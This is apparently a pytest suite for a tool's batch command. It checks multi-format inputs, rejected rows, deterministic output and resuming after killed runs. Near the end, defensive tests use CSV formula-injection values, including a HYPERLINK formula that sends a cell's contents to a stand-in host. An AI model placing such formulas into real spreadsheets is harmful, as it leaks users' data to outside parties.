"""``smeadvisor batch`` as a whole: the real reader, the real engine, real files, through the command line."""

from __future__ import annotations

import csv
import functools
import json
import time
from pathlib import Path
from typing import Any

import openpyxl
import pyarrow.parquet as pq
import pytest
import yaml

from smeadvisor.batch.folder import place_of
from smeadvisor.cli import cli
from smeadvisor.model.rulebook import Rulebook
from smeadvisor.problems import Lang
from smeadvisor.rules import shipped
from smeadvisor.rules.loading import load
from support.commands import counts, lines, plain, process, run, sums, table
from support.faults import FAULTS, single
from support.generated import drawn_answers
from support.killed import begun, killed_at, moments, noted
from support.paths import ECONOMIES, FIRMS, ROOT
from support.rendered import WRITERS, Data
from support.scale import is_long, randomness, sample, scaled

ROWS = 10_000 if is_long() else 300
KINDS = 30
BAD = max(KINDS, ROWS * 3 // 100)
KILLS = scaled(10)
SEEDS = scaled(3, most=100)
FORMS = ("csv", "jsonl", "flat.jsonl", "xlsx", "text.parquet")


@pytest.fixture(scope="module", autouse=True)
def read_once(whole_rulebook):
    """The shipped rulebook is read once for all of these runs."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(shipped, "shipped_rulebook", lambda *_: whole_rulebook)
        yield


def firms(rulebook, count: int, seed: int = 7) -> list[Data]:
    """Firms with answers at random."""
    chance = randomness(seed)
    return [
        {
            "id": f"firm-{i}",
            "kind": "firm",
            "economy": chance.choice(["TWN", "MEX", "USA", "JPN", "HKG", "SGP"]),
            "name": f"Firm {i}, 公司",
            "answers": drawn_answers(rulebook, "firm", chance),
        }
        for i in range(count)
    ]


def faults(rulebook) -> list[Data]:
    """Thirty kinds of bad rows that every form can hold beside good ones."""
    found = [data for data, forms in FAULTS.values() if forms >= {*FORMS} and isinstance(single(data, rulebook), set)]
    assert len(found) >= KINDS
    return found[:KINDS]


@pytest.fixture(scope="module")
def many(rulebook) -> list[Data]:
    return firms(rulebook, 500 if is_long() else 150)


@pytest.fixture(scope="module")
def mixed(rulebook) -> tuple[list[Data], dict[int, set[str]]]:
    """Profiles of which some are bad, in thirty ways; and what is wrong with those."""
    profiles, bad = firms(rulebook, ROWS), faults(rulebook)
    places = randomness(3).sample(range(ROWS), BAD)
    for i, place in enumerate(places):
        profiles[place] = bad[i % KINDS]
    return profiles, {place + 1: single(profiles[place], rulebook) for place in places}


@pytest.fixture(scope="module")
def advised_once(mixed, tmp_path_factory):
    """What comes of each form: exit code, advice, rejects."""
    profiles, _ = mixed
    made = {}
    for form in FORMS:
        folder = tmp_path_factory.mktemp("mixed")
        WRITERS[form](folder / f"in.{form}", profiles)
        done = run(
            "batch", folder / f"in.{form}", "-o", folder / "out.jsonl", "--rejects", folder / "bad.csv", "--quiet"
        )
        made[form] = (done.returncode, (folder / "out.jsonl").read_bytes(), table(folder / "bad.csv"))
        assert counts(folder / "out.jsonl")["rows"] == ROWS
    return made


@pytest.mark.parametrize("form", FORMS)
def test_every_bad_row_is_rejected_for_its_reasons_and_every_good_one_advised(form, mixed, advised_once):
    """Bad in thirty ways, each with its codes, its field and its row; the rest in order."""
    profiles, bad = mixed
    code, advice, rejects = advised_once[form]
    assert code == 1
    found: dict[int, set[str]] = {}
    for each in rejects:
        found.setdefault(int(each["row"]), set()).add(each["code"])
        header = 0 if form.endswith("jsonl") or form.endswith("parquet") else 1
        assert int(each["file_row"]) == int(each["row"]) + header
        assert each["reason"]
        assert each["remedy"]
    assert found == bad
    rows = [json.loads(line) for line in advice.splitlines()]
    assert [(each["row"], each["id"]) for each in rows] == [
        (row, data["id"]) for row, data in enumerate(profiles, 1) if row not in bad
    ]


@pytest.mark.parametrize("form", FORMS)
def test_advice_and_reasons_are_the_same_in_every_form(form, advised_once):
    """Byte for byte; of the rejects all but the file they stand in."""
    same = ("row", "id", "field", "code")
    _, advice, rejects = advised_once[form]
    _, other, others = advised_once["csv"]
    assert advice == other
    assert sorted(tuple(each[k] for k in same) for each in rejects) == sorted(tuple(e[k] for k in same) for e in others)


@pytest.mark.parametrize("form", [*WRITERS, "yaml", "json"])
def test_the_same_profiles_give_the_same_bytes_in_every_form(form, many, tmp_path):
    """Profile files in a folder, tables of text, tables of types."""
    made = []
    for i, name in enumerate(("csv", form)):
        path, out = tmp_path / f"{i}.{name}", tmp_path / f"out-{i}.jsonl"
        write_any(path, many, name)
        assert run("batch", path, "-o", out, "--quiet").returncode == 0
        made.append(out.read_bytes())
    assert made[0] == made[1]


def write_any(path: Path, profiles: list[Data], form: str) -> None:
    """A file of that form, or a folder of profile files."""
    if form in WRITERS:
        WRITERS[form](path, profiles)
        return
    path.mkdir()
    dump = json.dumps if form == "json" else yaml.safe_dump
    for i, each in enumerate(profiles):
        (path / f"{i:05d}.{form}").write_text(dump(plain(each)), encoding="utf-8")


@pytest.mark.parametrize("day", [[], ["--as-of", "2011"]])
def test_a_batch_says_what_advise_says(tmp_path, day):
    """Of every shipped profile, firms and economies in one run, in every field that both have."""
    paths = [*FIRMS, *ECONOMIES]
    assert run("batch", *paths, "-o", tmp_path / "out.jsonl", "--fired", "--quiet", *day).returncode == 0
    alone = run("advise", *paths, "--format", "json", *day)
    assert alone.returncode == 0
    both = zip(lines(tmp_path / "out.jsonl"), map(json.loads, alone.stdout.splitlines()), strict=True)
    for row, single_one in both:
        assert of_row(row) == of_consultation(single_one)


def of_row(row: Data) -> Data:
    return {
        **{name: row[name] for name in ("id", "kind", "economy", "barriers", "recommendations", "undecided")},
        "classes": {name: row[name] for name in ("sme", "size_class", "stage", "routes", "sector_group")},
        "measures": sorted(row["measures"]),
        "fired": set(row["fired"]),
    }


def of_consultation(found: Data) -> Data:
    profile, given = found["profile"], found["recommendations"]
    return {
        **{name: profile[name] for name in ("id", "kind", "economy")},
        "barriers": [{name: each[name] for name in ("id", "severity", "weight")} for each in found["barriers"]],
        "recommendations": [
            {name: each.get(name) for name in ("rank", "id", "evidence", "points", "under")} for each in given
        ],
        "undecided": sorted(each["attribute"] for each in found["undecided"]),
        "classes": {
            name: found["classification"][name] for name in ("sme", "size_class", "stage", "routes", "sector_group")
        },
        "measures": sorted({name for each in given for name in each["measures"]}),
        "fired": {each["rule"] for each in found["firings"]},
    }


@pytest.mark.parametrize("form", ["jsonl", "csv"])
def test_neither_processes_nor_parts_change_a_byte(form, mixed, tmp_path):
    """One process or eight, parts of seven rows or all in one; the rejects as well."""
    profiles, count = mixed[0], 300 if is_long() else 90
    WRITERS["csv"](tmp_path / "in.csv", profiles[:count])
    made = []
    for jobs, part in ((1, 100_000), (2, 7), (8, count // 3)):
        folder = tmp_path / f"{jobs}"
        folder.mkdir()
        out = folder / f"out.{form}"
        assert (
            run("batch", tmp_path / "in.csv", "-o", out, "--jobs", jobs, "--part-rows", part, "--quiet").returncode == 1
        )
        made.append({name: each for name, each in sums(folder).items() if "manifest" not in name})
    assert made[0] == made[1] == made[2]
    assert len(made[0]) == 2


def test_the_order_in_which_sets_are_walked_changes_no_byte(tmp_path):
    """Hash seeds, from the reading of an overlay to the advice."""
    made = []
    for seed in range(SEEDS):
        folder = tmp_path / f"{seed}"
        folder.mkdir()
        options = ["--fired", "--rules", "overlays/germany/rules", "--jobs", 1 + seed % 3, "--quiet"]
        # A process of its own, since a hash seed is read at its start.
        done = process("batch", "profiles", "-o", folder / "out.jsonl", *options, PYTHONHASHSEED=str(seed))
        assert done.returncode == 0
        made.append(sums(folder))
    assert len(made[0]) == 2
    assert made == made[:1] * SEEDS


def killable(mixed, folder: Path, count: int, part_rows: int, jobs: int) -> list[str]:
    """The arguments of a run that is to be killed, in that folder; of its rows one at least is bad."""
    profiles, bad = mixed
    WRITERS["csv"](folder / "in.csv", [profiles[min(bad) - 1], *profiles[1:count]])
    files = [str(folder / "in.csv"), "-o", str(folder / "out.parquet")]
    return ["batch", *files, "--part-rows", str(part_rows), "--jobs", str(jobs), "--quiet"]


def taken_away(folder: Path) -> dict[str, str]:
    """What a run made there, which is there no longer."""
    made = sums(folder)
    assert not place_of(folder / "out.parquet").exists()
    for path in folder.glob("out.*"):
        path.unlink()
    return made


def again(arguments: list[str], folder: Path) -> list[str]:
    """The command that goes on with the run, also where all is published; not where it was killed before a plan."""
    out = folder / "out.parquet"
    return [*arguments, "--resume"] if out.exists() or (place_of(out) / "plan").exists() else arguments


def carried_out(arguments: list[str]) -> None:
    """The command line, for a process that ends with it."""
    cli.main(args=arguments, standalone_mode=False)


def test_a_run_killed_at_any_call_ends_in_the_same_bytes_when_resumed(mixed, tmp_path):
    """SIGKILL as it opens, writes, syncs, renames, removes: in the suite some calls of each phase, in the long run any.

    That every sort of call is met in the suite, the same test of stand-ins holds.
    """
    arguments = killable(mixed, tmp_path, count=60, part_rows=20, jobs=1)
    with noted() as calls:
        assert run(*arguments).returncode == 1
    whole = taken_away(tmp_path)
    assert len(whole) == 3
    for nth in sample(moments(calls), every=4):
        assert killed_at(nth, lambda: carried_out(arguments))
        assert run(*again(arguments, tmp_path)).returncode == 1
        assert taken_away(tmp_path) == whole


@pytest.mark.long
def test_a_run_killed_at_any_moment_ends_in_the_same_bytes_when_resumed(mixed, tmp_path):
    """SIGKILL at random instants."""
    arguments = killable(mixed, tmp_path, count=200, part_rows=20, jobs=2)
    start = time.monotonic()
    begun(lambda: carried_out(arguments)).join()
    seconds = time.monotonic() - start
    whole = taken_away(tmp_path)
    assert len(whole) == 3
    chance, kills = randomness(2011), 0
    while kills < KILLS:
        while not (tmp_path / "out.parquet").exists():
            command = again(arguments, tmp_path)
            killed = begun(lambda command=command: carried_out(command))
            if chance.random() < 0.8:
                killed.join(chance.uniform(0, seconds))
                killed.kill()
            killed.join()
            kills += killed.exitcode == -9
        assert run(*again(arguments, tmp_path)).returncode == 1
        assert taken_away(tmp_path) == whole


def test_inputs_are_mixed_and_repeated(many, tmp_path):
    """A table, a folder, lines, the table again: numbered through; ids given twice are told."""
    WRITERS["csv"](tmp_path / "a.csv", many[:5])
    WRITERS["jsonl"](tmp_path / "b.jsonl", many[5:8])
    a, out = tmp_path / "a.csv", tmp_path / "out.jsonl"
    done = run("batch", a, ROOT / "profiles", tmp_path / "b.jsonl", a, "-o", out)
    assert done.returncode == 0
    assert "W-DUP-ID" in done.told
    assert [each["row"] for each in lines(out)] == list(range(1, 5 + 38 + 3 + 5 + 1))


def test_an_output_in_an_input_folder_is_no_input_of_the_next_run(tmp_path):
    """Neither it nor its rejects nor its manifest."""
    (tmp_path / "one.yaml").write_text(FIRMS[0].read_text(encoding="utf-8"), encoding="utf-8")
    for name in ("a.jsonl", "b.csv"):
        summary = tmp_path / f"{name}.summary.json"
        assert run("batch", tmp_path, "-o", tmp_path / name, "--summary", summary, "--quiet").returncode == 0
        assert counts(tmp_path / name)["rows"] == 1


def test_two_runs_of_one_stem_keep_their_rejects_apart(tmp_path):
    """Each hang on the whole name of their output; as input a folder that they lie in has profiles alone."""
    (tmp_path / "one.yaml").write_text(FIRMS[0].read_text(encoding="utf-8"), encoding="utf-8")
    (tmp_path / "bad.yaml").write_text("id: bad\n", encoding="utf-8")
    for name in ("a.jsonl", "a.csv", "a.xlsx"):
        assert run("batch", tmp_path, "-o", tmp_path / name, "--quiet").returncode == 1
        assert counts(tmp_path / name) == {"rows": 2, "advised": 1, "rejected": 1, "duplicates": 0}
        assert (tmp_path / f"{name}.rejects.csv").exists()
    assert run("verify", *(tmp_path / each for each in ("a.jsonl", "a.csv", "a.xlsx"))).returncode == 0


def test_a_file_of_a_spreadsheet_in_chinese(tmp_path):
    """In Big5, its columns under other names, one currency, kind and economy told once; the advice in Chinese Excel."""
    text = "統一編號,公司名稱,員工人數,營業額,備註欄\n04595257,許功蓋螺絲,30,5000000,x\n12345678,測試,三十,1,y\n"
    (tmp_path / "in.csv").write_bytes(text.encode("cp950"))
    names = {"統一編號": "id", "公司名稱": "name", "員工人數": "employees", "營業額": "annual_sales", "備註欄": "-"}
    options = [part for name, to in names.items() for part in ("--map", f"{name}={to}")]
    options += ["--encoding", "cp950", "--unit", "annual_sales=TWD", "--kind", "firm", "--economy", "TWN"]
    done = run("batch", tmp_path / "in.csv", "-o", tmp_path / "out.csv", *options, "--excel", "--lang", "zh-Hant")
    assert done.returncode == 1
    assert "讀入 2 筆" in done.told
    assert (tmp_path / "out.csv").read_bytes().startswith(b"\xef\xbb\xbf")
    (row,) = table(tmp_path / "out.csv")
    assert (row["id"], row["name"]) == ("04595257", "許功蓋螺絲")
    (bad,) = table(tmp_path / "out.csv.rejects.csv")
    assert (bad["file_row"], bad["field"], bad["value"], bad["code"]) == ("3", "/answers/employees", "三十", "E-NUM")
    assert (bad["id"], bad["column"], bad["cell"]) == ("12345678", "員工人數", "")
    assert "數字" in bad["reason"] + bad["remedy"]


@pytest.mark.parametrize(
    ("lang", "where"),
    [("en", "in.xlsx:3: column Staff (D3): E-NUM: "), ("zh-Hant", "in.xlsx:3: 欄位 Staff（D3）: E-NUM: ")],
)
def test_a_rejected_row_is_told_with_its_column(tmp_path, lang, where):
    """By the header that stands in the file, in a workbook with the cell; as JSON in fields of their own."""
    cells = [["id", "kind", "economy", "Staff"], ["a", "firm", "TWN", 30], ["b", "firm", "TWN", "thirty"]]
    book = openpyxl.Workbook()
    for row in cells:
        book.worksheets[0].append(row)
    book.save(tmp_path / "in.xlsx")
    options = [tmp_path / "in.xlsx", "--map", "Staff=employees", "--lang", lang]
    done = run("batch", *options, "-o", "-", "--format", "jsonl", "--quiet")
    assert done.told.startswith(f"{tmp_path}/{where}")
    done = run("batch", *options, "-o", "-", "--format", "jsonl", "--quiet", "--errors", "json")
    told = json.loads(done.told.splitlines()[0])
    assert (told["line"], told["header"], told["cell"], told["code"]) == (3, "Staff", "D3", "E-NUM")
    done = run("audit", "coverage", *options)
    assert done.told.startswith(f"{tmp_path}/{where}")


HOSTILE = [
    "=1+1",
    "+886",
    "-5",
    "@x",
    "\tx",
    "'=1",
    "''-",
    "'",
    "a,b",
    'a"b',
    "公司；",
    "a\nb",
    '=HYPERLINK("http://x")',
]


@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_hostile_names_come_back_as_they_were(form, tmp_path):
    """Advice read back as profiles: the same ids and names, however a spreadsheet would take them."""
    profiles = [{"id": each, "kind": "firm", "economy": "TWN", "name": each, "answers": {}} for each in HOSTILE]
    WRITERS["jsonl"](tmp_path / "in.jsonl", profiles)
    assert run("batch", tmp_path / "in.jsonl", "-o", tmp_path / f"out.{form}", "--quiet").returncode == 0
    others = [name for name in lines_of(tmp_path, form) if name not in ("id", "name", "kind", "economy")]
    options = [part for name in others for part in ("--map", f"{name}=-")]
    assert run("batch", tmp_path / f"out.{form}", "-o", tmp_path / "again.jsonl", "--quiet", *options).returncode == 0
    assert [(each["id"], each["name"]) for each in lines(tmp_path / "again.jsonl")] == [(e, e) for e in HOSTILE]


def lines_of(folder: Path, form: str) -> list[str]:
    """The names of the columns of an output."""
    if form == "csv":
        return list(table(folder / "out.csv")[0])
    from openpyxl import load_workbook

    sheet = load_workbook(folder / "out.xlsx").active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    return [cell.value for cell in sheet[1]]


@pytest.mark.parametrize("form", ["csv", "xlsx"])
@pytest.mark.parametrize("lang", ["en", "zh-Hant"])
def test_a_template_filled_in_gives_the_advice_of_the_profiles(form, lang, tmp_path, whole_rulebook):
    """Answers of the shipped firms, written into the empty table in the words of its language."""
    from smeadvisor.files.documents import read
    from support.rendered import columns_of, text, typed

    path = tmp_path / f"in.{form}"
    assert run("batch", "--template", "firm", "-o", path, "--lang", lang).returncode == 0
    data = [columns_of(in_words(named(read(each).data), lang, whole_rulebook)) for each in FIRMS]
    if form == "csv":
        header = path.read_text(encoding="utf-8").strip().split(",")
        import csv

        with path.open("a", encoding="utf-8", newline="") as file:
            csv.writer(file).writerows([text(each.get(name)) for name in header] for each in data)
    else:
        from openpyxl import load_workbook

        book = load_workbook(path)
        sheet = book.worksheets[0]
        header = [cell.value for cell in sheet[1]]
        for row, each in enumerate(data, 2):
            for column, name in enumerate(header, 1):
                sheet.cell(row, column).value = typed(each.get(name))
        book.save(path)
    assert {name for each in data for name in each} <= {*header}
    assert run("batch", path, "-o", tmp_path / "out.jsonl", "--quiet").returncode == 0
    assert run("batch", *FIRMS, "-o", tmp_path / "of-profiles.jsonl", "--quiet").returncode == 0
    assert lines(tmp_path / "out.jsonl") == lines(tmp_path / "of-profiles.jsonl")


def in_words(data: Data, lang: Lang, rulebook: Rulebook) -> Data:
    """The profile with labels for ids, and lists as a text."""
    between = "；" if lang == "zh-Hant" else "; "

    def worded(name: str, raw: Any) -> Any:
        labels = {id: each.to(lang) for id, each in rulebook.attributes[name].choices.items()}
        if isinstance(raw, list):
            return between.join(labels[each] for each in raw) or "none"
        return labels.get(raw, raw) if isinstance(raw, str) else raw

    economy = rulebook.economies[data["economy"]].name.to(lang)
    return {**data, "economy": economy, "answers": {name: worded(name, raw) for name, raw in data["answers"].items()}}


def named(data: Data) -> Data:
    """The profile with its English name alone, as a cell holds it."""
    name = data.get("name")
    return {**data, "name": name["en"] if isinstance(name, dict) else name}


@pytest.mark.parametrize("form", ["csv", "jsonl"])
def test_standard_input_to_standard_output(form, mixed, tmp_path):
    """By content; rejected rows are told."""
    WRITERS[form](tmp_path / f"in.{form}", mixed[0])
    done = run("batch", "-", "-o", "-", "--format", "jsonl", "--quiet", stdin=(tmp_path / f"in.{form}").read_bytes())
    assert done.returncode == 1
    assert len(done.stdout.splitlines()) == ROWS - len(mixed[1])
    assert len({line.split(": ")[0] for line in done.told.splitlines() if "<stdin>:" in line}) == len(mixed[1])


def test_other_rules_weights_and_days_are_those_of_advise(tmp_path, monkeypatch):
    """An overlay, a file of priorities, the paper's day."""
    # Both commands load by this function: the same folders need be read once.
    monkeypatch.setattr("smeadvisor.rules.loading.load", functools.cache(load))
    overlay, profile = ROOT / "overlays/germany/rules", ROOT / "overlays/germany/profile.yaml"
    weights = tmp_path / "priorities.yaml"
    text = (ROOT / "rules/priorities.yaml").read_text(encoding="utf-8")
    weights.write_text(text.replace("severe: 3", "severe: 9"), encoding="utf-8")
    for name, options in {
        "overlay": ["--rules", overlay],
        "weights": ["--priorities", weights],
        "both, then": ["--rules", overlay, "--priorities", weights, "--as-of", "2011"],
    }.items():
        out = tmp_path / f"{name}.jsonl"
        assert run("batch", profile, "-o", out, "--fired", "--quiet", *options).returncode == 0
        alone = run("advise", profile, "--format", "json", *options)
        assert of_row(lines(out)[0]) == of_consultation(json.loads(alone.stdout))


def test_flat_and_nested_say_the_same(many, tmp_path):
    """Parquet in both layouts, and the summaries of both."""
    WRITERS["typed.parquet"](tmp_path / "in.parquet", many)
    for name, more in (("lists", []), ("flat", ["--flat"])):
        summary = tmp_path / f"{name}.json"
        out = tmp_path / f"{name}.parquet"
        assert (
            run(
                "batch", tmp_path / "in.parquet", "-o", out, "--fired", "--quiet", "--summary", summary, *more
            ).returncode
            == 0
        )
    assert (tmp_path / "lists.json").read_bytes() == (tmp_path / "flat.json").read_bytes()
    nested, flat = (pq.read_table(tmp_path / f"{name}.parquet") for name in ("lists", "flat"))
    bits = {name: json.loads(flat.schema.metadata[name.encode()]) for name in ("measures", "undecided", "fired")}
    for row, other in zip(nested.to_pylist(), flat.to_pylist(), strict=True):
        for name, names in bits.items():
            words = [other[each] for each in flat.column_names if each.startswith(f"{name}_")]
            assert {n for i, n in enumerate(names) if words[i // 64] >> i % 64 & 1} == {*row[name]}
        given = [(other[f"rank_{k + 1}"], other[f"recommendation_{k + 1}"]) for k in range(len(row["recommendations"]))]
        assert given == [(each["rank"], each["id"]) for each in row["recommendations"]]


def test_a_resume_with_something_else_is_refused_by_name(many, tmp_path):
    """What differs is named, and what a run needs to be replaced is said."""
    WRITERS["csv"](tmp_path / "in.csv", many[:60])
    out = tmp_path / "out.parquet"
    arguments = ["batch", str(tmp_path / "in.csv"), "-o", str(out), "--part-rows", "5", "--jobs", "1", "--quiet"]
    assert killed_at(40, lambda: carried_out(arguments))
    assert list(place_of(out).glob("*.json"))
    rest = arguments[1:]
    assert "E-LEFTOVER" in run("batch", *rest).told
    for more, said in (
        (["--fired", "--map", "x=-"], ": --map (then not given, now x=-), --fired (then not given, now given). "),
        (["--kind", "firm"], ": --kind (then not given, now firm). "),
        (["--flat", "--lang", "zh-Hant"], "：--flat（當時 未指定，這次 有指定）、--lang（當時 en，這次 zh-Hant）。"),
        (["--as-of", "2011"], ": --as-of (then "),
        (["--rules", ROOT / "overlays/germany/rules"], "rulebook"),
        (["--part-rows", "6"], ": --part-rows (then 5, now 6). "),
    ):
        done = run("batch", *rest, "--resume", *more)
        assert (done.returncode, "E-RESUME-MISMATCH" in done.told, said in done.told) == (65, True, True), done.told
    with (tmp_path / "in.csv").open("a") as file:
        file.write("\n")
    done = run("batch", *rest, "--resume", "--lang", "zh-Hant")
    assert "輸入檔" in done.told
    assert run("batch", *rest, "--overwrite").returncode == 0


def test_a_day_beyond_the_review_is_told_as_advise_tells_it(tmp_path):
    """And advised all the same."""
    done = run("batch", FIRMS[0], "-o", tmp_path / "out.csv", "--as-of", "2099")
    assert (done.returncode, "W-AS-OF" in done.told) == (0, True)


@pytest.mark.parametrize("lang", ["en", "zh-Hant"])
def test_a_workbook_says_beside_its_data_what_people_look_for(rulebook, tmp_path, lang):
    """First recommendations, severe barriers, open questions by title, as the data have them by id; all titles."""
    done = run("batch", ROOT / "profiles/firms", "-o", tmp_path / "out.xlsx", "--lang", lang, "--quiet")
    assert done.returncode == 0
    assert run("batch", ROOT / "profiles/firms", "-o", tmp_path / "out.jsonl", "--quiet").returncode == 0
    _, words, titles = openpyxl.load_workbook(tmp_path / "out.xlsx").worksheets
    rows = list(words.iter_rows(min_row=2, values_only=True))
    met = set()
    for row, data in zip(rows, lines(tmp_path / "out.jsonl"), strict=True):
        own = [each["id"] for each in data["recommendations"] if each["under"] is None]
        first = [rulebook.recommendations[each].title.to(lang) for each in own[:3]]
        severe = [each["id"] for each in data["barriers"] if each["severity"] == "severe"]
        joined = ("; " if lang == "en" else "；").join(rulebook.barriers[each].title.to(lang) for each in severe)
        assert row[:2] == (data["id"], data["name"])
        assert [each for each in row[2:5] if each] == first
        assert (row[5], row[6] or "", row[7]) == (len(data["barriers"]), joined, len(data["undecided"]))
        assert (row[8] or "").endswith("…") == (len(data["undecided"]) > 5)
        met |= {*(each["id"] for each in (*data["barriers"], *data["recommendations"]))}
        met |= {*data["measures"], *data["undecided"]}
    listed = list(titles.iter_rows(min_row=2, values_only=True))
    shelves = (rulebook.recommendations, rulebook.barriers, rulebook.instruments, rulebook.attributes)
    called = {name: each.title.to(lang) for shelf in shelves for name, each in shelf.items()}
    assert [(name, title) for _, name, title in listed] == [(name, called[name]) for _, name, _ in listed]
    assert {name for _, name, _ in listed} == met


@pytest.mark.parametrize("text", ["=1+1", '=HYPERLINK("http://e.example/?"&B2)', "+1", "-x", "@SUM(1)", "'=1"])
def test_no_cell_of_rejects_is_a_formula(tmp_path, text):
    """Nor a reason, which begins with the value that it rejects; ``--raw`` leaves all as it is."""
    row = {"id": "f", "kind": "firm", "economy": "TWN", "employees": text, "sector": text}
    with (tmp_path / "in.csv").open("w", newline="") as file:
        writer = csv.DictWriter(file, [*row])
        writer.writeheader()
        writer.writerows([row, {**row, "id": text}])
    for more in ([], ["--raw"]):
        run("batch", tmp_path / "in.csv", "-o", tmp_path / "out.csv", "--quiet", "--overwrite", *more)
        told = [cell for line in table(tmp_path / "out.csv.rejects.csv") for cell in line.values()]
        assert any(cell.startswith(("=", "+", "-", "@")) for cell in told) == bool(more) or text == "'=1"
        assert any(text[:9] in cell for cell in told)
